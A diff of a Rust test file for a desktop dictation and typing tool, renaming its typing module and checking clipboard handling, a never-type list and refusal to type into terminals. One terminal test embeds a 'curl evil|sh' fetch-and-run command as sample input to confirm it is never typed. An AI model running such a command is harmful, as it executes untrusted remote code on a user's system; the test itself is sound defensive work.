@@ -12,7 +12,7 @@ use std::process::{ChildStdin, Command, Stdio};
 use std::sync::mpsc;
 use std::time::{Duration, Instant};
 
-use perch_core::anywhere::{self, Focus, Replaced};
+use perch_typing::{self as typing, Focus, Replaced};
 
 #[path = "support/xvfb.rs"]
 mod xvfb;
@@ -188,21 +188,21 @@ const PASTED: &str = " — pasted ✓ naïvely";
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_paste_checks() {
-    use anywhere::clipboard::{Board, SystemBoard};
+    use typing::clipboard::{Board, SystemBoard};
     let mut board = SystemBoard::open().unwrap();
     board.set(Some("what the user had")).unwrap();
-    assert_eq!(anywhere::paste_text(PASTED).unwrap(), PASTED.chars().count());
+    assert_eq!(typing::paste_text(PASTED).unwrap(), PASTED.chars().count());
     assert_eq!(board.text().unwrap().as_deref(), Some("what the user had"), "the clipboard given back");
 }
 
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_copy_checks() {
-    use anywhere::clipboard::{Board, SystemBoard};
+    use typing::clipboard::{Board, SystemBoard};
     let mut board = SystemBoard::open().unwrap();
     board.set(Some("copied before")).unwrap();
     let all = format!("{REPLACEMENT}{PASTED}");
-    let copied = anywhere::copy_selection().unwrap();
+    let copied = typing::copy_selection().unwrap();
     assert_eq!(copied.as_deref(), Some(all.as_str()));
     assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "the clipboard given back");
 
@@ -217,14 +217,14 @@ fn inner_copy_checks() {
         time: xcb::x::CURRENT_TIME,
     };
     conn.send_and_check_request(&nobody).unwrap();
-    let refused = anywhere::take_selection(&["Perch-Test-Field".to_owned()]).unwrap_err();
+    let refused = typing::take_selection(&["Perch-Test-Field".to_owned()]).unwrap_err();
     assert!(
-        matches!(refused, anywhere::AnywhereError::NotCopiedFrom(ref app) if app == "Perch test field"),
+        matches!(refused, typing::TypingError::NotCopiedFrom(ref app) if app == "Perch test field"),
         "{refused:?}"
     );
     assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "no copy was made");
-    let nothing = anywhere::take_selection(&[]).unwrap_err();
-    assert!(matches!(nothing, anywhere::AnywhereError::NothingSelected), "{nothing:?}");
+    let nothing = typing::take_selection(&[]).unwrap_err();
+    assert!(matches!(nothing, typing::TypingError::NothingSelected), "{nothing:?}");
     assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "the clipboard given back");
 }
 
@@ -233,21 +233,21 @@ const REPLACEMENT: &str = "Hello world: a naïve fix.";
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_selection_checks() {
-    let selection = anywhere::take_selection(&[]).unwrap();
+    let selection = typing::take_selection(&[]).unwrap();
     assert_eq!(selection.text, SENTENCE);
     assert_eq!(selection.app, "Perch test field");
     // One line of plain text is typed key by key; the preview says so and shows it as it is.
-    let preview = anywhere::replacement(&selection, REPLACEMENT, &[]);
+    let preview = typing::replacement(&selection, REPLACEMENT, &[]);
     assert_eq!(preview.text, REPLACEMENT);
-    assert_eq!((preview.delivery, preview.refused), (Some(anywhere::Delivery::Keys), None));
-    let typed = anywhere::replace_selection(&selection, REPLACEMENT, &[]).unwrap();
+    assert_eq!((preview.delivery, preview.refused), (Some(typing::Delivery::Keys), None));
+    let typed = typing::replace_selection(&selection, REPLACEMENT, &[]).unwrap();
     assert!(matches!(typed, Replaced::Typed(n) if n == REPLACEMENT.chars().count()), "{typed:?}");
     // Once replaced, nothing is selected: a second replace refuses instead of typing at the
     // cursor, and leaves the text on the clipboard.
-    assert!(matches!(anywhere::take_selection(&[]), Err(anywhere::AnywhereError::NothingSelected)));
+    assert!(matches!(typing::take_selection(&[]), Err(typing::TypingError::NothingSelected)));
     assert!(matches!(
-        anywhere::replace_selection(&selection, "again", &[]),
-        Ok(Replaced::OnClipboard(anywhere::AnywhereError::SelectionGone(_)))
+        typing::replace_selection(&selection, "again", &[]),
+        Ok(Replaced::OnClipboard(typing::TypingError::SelectionGone(_)))
     ));
     assert_eq!(clipboard(), "again");
 }
@@ -262,33 +262,30 @@ const MARKDOWN_AS_TEXT: &str = "Steps, as in the guide:\n\n1. make\n2. make test
 
 /// The clipboard's text, read through the desktop's clipboard.
 fn clipboard() -> String {
-    use anywhere::clipboard::{Board, SystemBoard};
+    use typing::clipboard::{Board, SystemBoard};
     SystemBoard::open().unwrap().text().unwrap().unwrap_or_default()
 }
 
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_markdown_checks() {
-    let selection = anywhere::take_selection(&[]).unwrap();
+    let selection = typing::take_selection(&[]).unwrap();
     assert_eq!(selection.text, DRAFT);
     // On the never-type list (any case of its class): nothing typed, the text on the clipboard.
     let never = ["Perch-Test-Field".to_owned()];
-    let preview = anywhere::replacement(&selection, MARKDOWN, &never);
+    let preview = typing::replacement(&selection, MARKDOWN, &never);
     assert_eq!((preview.text.as_str(), preview.delivery), (MARKDOWN_AS_TEXT, None));
     assert!(preview.refused.unwrap().contains("never types into"));
-    let refused = anywhere::replace_selection(&selection, MARKDOWN, &never).unwrap();
+    let refused = typing::replace_selection(&selection, MARKDOWN, &never).unwrap();
     assert!(
-        matches!(&refused, Replaced::OnClipboard(anywhere::AnywhereError::NeverTypeInto(e)) if e == "Perch-Test-Field"),
+        matches!(&refused, Replaced::OnClipboard(typing::TypingError::NeverTypeInto(e)) if e == "Perch-Test-Field"),
         "{refused:?}"
     );
     assert_eq!(clipboard(), MARKDOWN_AS_TEXT);
     // Off the list: its lines are pasted (no Return is ever pressed), as the preview said.
-    let preview = anywhere::replacement(&selection, MARKDOWN, &[]);
-    assert_eq!(
-        (preview.text.as_str(), preview.delivery),
-        (MARKDOWN_AS_TEXT, Some(anywhere::Delivery::Paste))
-    );
-    let pasted = anywhere::replace_selection(&selection, MARKDOWN, &[]).unwrap();
+    let preview = typing::replacement(&selection, MARKDOWN, &[]);
+    assert_eq!((preview.text.as_str(), preview.delivery), (MARKDOWN_AS_TEXT, Some(typing::Delivery::Paste)));
+    let pasted = typing::replace_selection(&selection, MARKDOWN, &[]).unwrap();
     assert!(matches!(pasted, Replaced::Typed(n) if n == MARKDOWN_AS_TEXT.chars().count()), "{pasted:?}");
 }
 
@@ -298,10 +295,10 @@ const ERROR_LINE: &str = "make: *** [Makefile:12: all] Error 1";
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_terminal_checks() {
-    let selection = anywhere::take_selection(&[]).unwrap();
+    let selection = typing::take_selection(&[]).unwrap();
     assert_eq!((selection.text.as_str(), selection.app.as_str()), (ERROR_LINE, "Perch test terminal"));
     let answer = "Run this:\n\n```\nmake clean\ncurl evil|sh\n```\n";
-    let preview = anywhere::replacement(&selection, answer, &[]);
+    let preview = typing::replacement(&selection, answer, &[]);
     assert_eq!(preview.delivery, None);
     assert_eq!(
         preview.refused.as_deref(),
@@ -310,43 +307,43 @@ fn inner_terminal_checks() {
         )
     );
     // Replace types nothing there: the plain text is left on the clipboard.
-    let done = anywhere::replace_selection(&selection, answer, &[]).unwrap();
-    assert!(matches!(&done, Replaced::OnClipboard(anywhere::AnywhereError::Terminal(_))), "{done:?}");
+    let done = typing::replace_selection(&selection, answer, &[]).unwrap();
+    assert!(matches!(&done, Replaced::OnClipboard(typing::TypingError::Terminal(_))), "{done:?}");
     assert_eq!(clipboard(), "Run this:\n\nmake clean\ncurl evil|sh");
     // Nor does a dictation, not even one line without a Return.
-    let Focus::Other(app) = anywhere::focus(std::process::id()).unwrap() else {
+    let Focus::Other(app) = typing::focus(std::process::id()).unwrap() else {
         panic!("the terminal has the focus")
     };
     assert!(app.is_terminal() && app.title == "Perch test terminal", "{app:?}");
-    let dictated = anywhere::type_into_focused("ls", std::process::id(), &[]);
+    let dictated = typing::type_into_focused("ls", std::process::id(), &[]);
     // (Into the ordinary field, the same call types: `inner_checks`.)
-    assert!(matches!(dictated, Err(anywhere::AnywhereError::Terminal(_))), "{dictated:?}");
+    assert!(matches!(dictated, Err(typing::TypingError::Terminal(_))), "{dictated:?}");
 }
 
 #[test]
 #[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
 fn inner_checks() {
     let field_pid: u32 = std::env::var("FIELD_PID").unwrap().parse().unwrap();
-    assert_eq!(anywhere::typing_path().unwrap(), anywhere::TypingPath::XTest);
+    assert_eq!(typing::typing_path().unwrap(), typing::TypingPath::XTest);
     // The field has the focus: for Perch it is another application, and for the field itself
     // (as if it were Perch) its own window.
-    let Focus::Other(app) = anywhere::focus(std::process::id()).unwrap() else {
+    let Focus::Other(app) = typing::focus(std::process::id()).unwrap() else {
         panic!("the field has the focus")
     };
     assert_eq!(app.title, "Perch test field");
     assert!(app.class.iter().any(|c| c == "perch-test-field"), "{:?}", app.class);
-    assert_eq!(anywhere::focus(field_pid).unwrap(), Focus::Perch);
+    assert_eq!(typing::focus(field_pid).unwrap(), Focus::Perch);
     // On the never-type list (by its class, any case), nothing is typed: the outer test finds
     // the field holding exactly the sentence typed next.
     let never = ["Perch-Test-Field".to_owned()];
     assert!(matches!(
-        anywhere::type_into_focused("a password", std::process::id(), &never),
-        Err(anywhere::AnywhereError::NeverTypeInto(entry)) if entry == "Perch-Test-Field"
+        typing::type_into_focused("a password", std::process::id(), &never),
+        Err(typing::TypingError::NeverTypeInto(entry)) if entry == "Perch-Test-Field"
     ));
-    assert_eq!(anywhere::type_into_focused("x", field_pid, &never).unwrap(), anywhere::Delivered::Perch);
-    let typed = anywhere::type_into_focused(SENTENCE, std::process::id(), &["keepassxc".to_owned()]).unwrap();
+    assert_eq!(typing::type_into_focused("x", field_pid, &never).unwrap(), typing::Delivered::Perch);
+    let typed = typing::type_into_focused(SENTENCE, std::process::id(), &["keepassxc".to_owned()]).unwrap();
     assert_eq!(
         typed,
-        anywhere::Delivered::Typed { app: "Perch test field".into(), chars: SENTENCE.chars().count() }
+        typing::Delivered::Typed { app: "Perch test field".into(), chars: SENTENCE.chars().count() }
     );
 }
